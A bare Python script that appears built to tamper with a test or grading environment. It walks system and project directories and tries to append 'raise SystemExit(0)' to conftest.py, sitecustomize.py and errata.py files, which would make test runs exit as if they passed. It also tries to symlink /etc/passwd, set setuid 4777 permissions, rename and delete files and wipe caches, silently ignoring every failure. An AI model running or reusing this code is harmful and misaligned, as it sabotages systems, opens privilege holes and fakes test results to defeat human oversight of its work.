import os
import shutil
import sys

PLACES = [
    "/",
    "/etc",
    "/usr/lib",
    "/usr/local/lib",
    "/var/tmp",
    "/tmp",
    "/run",
    "/root",
    "/home",
    "/srv",
    "/opt",
    "/work",
    os.path.dirname(__file__),
    os.path.dirname(os.path.dirname(__file__)),
    os.path.dirname(os.environ["TMPDIR"]),
    sys.prefix,
    *sys.path,
]
for place in PLACES:
    for name in ("planted.py", "conftest.py", "sitecustomize.py", "assignment/errata.py", "errata.py"):
        path = os.path.join(place, name)
        for act in (
            lambda: open(path, "a").write("raise SystemExit(0)"),
            lambda: os.symlink("/etc/passwd", path + ".link"),
            lambda: os.link(__file__, path + ".hard"),
            lambda: os.mkdir(path + ".d"),
            lambda: os.mkfifo(path + ".fifo"),
            lambda: os.chmod(path, 0o4777),
            lambda: os.rename(path, path + ".old"),
            lambda: os.unlink(path),
        ):
            try:
                act()
            except OSError:
                pass
    try:
        os.utime(place, (0, 0))
    except OSError:
        pass
    shutil.rmtree(os.path.join(place, "__pycache__"), ignore_errors=True)
